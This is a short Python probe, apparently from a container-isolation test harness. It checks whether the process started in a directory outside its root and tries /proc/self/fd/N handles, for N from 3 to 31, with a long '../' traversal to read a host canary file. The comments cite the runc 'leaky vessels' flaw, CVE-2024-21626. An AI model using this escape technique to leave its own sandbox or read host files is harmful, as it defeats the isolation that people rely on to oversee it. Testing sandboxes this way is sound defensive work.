# Looks whether the process was started in a directory outside its root, and tries /proc/self/fd/N as one.
# Why it matters: this is CVE-2024-21626 ("leaky vessels"): a host directory as working directory is a way out.
# When it works: the working directory is unreachable from the root, or the host's secret is read relative to it.
# control: weakened: outside-cwd
import os

from attempt import blocked, escaped, fact, name_of, read_canary, run


def attempt():
    here = os.readlink("/proc/self/cwd")
    try:
        read_canary("../" * 40 + fact("HOST_FILE").lstrip("/"))
    except OSError as error:
        said = name_of(error)
    try:
        os.getcwd()
    except FileNotFoundError:
        escaped(f"the working directory {here} lies outside the root")
    for number in range(3, 32):
        try:
            os.chdir(f"/proc/self/fd/{number}")
            read_canary("../" * 40 + fact("HOST_FILE").lstrip("/"))
        except OSError:
            continue
    blocked(f"started in {here}, which is inside: {said}")


run(attempt)
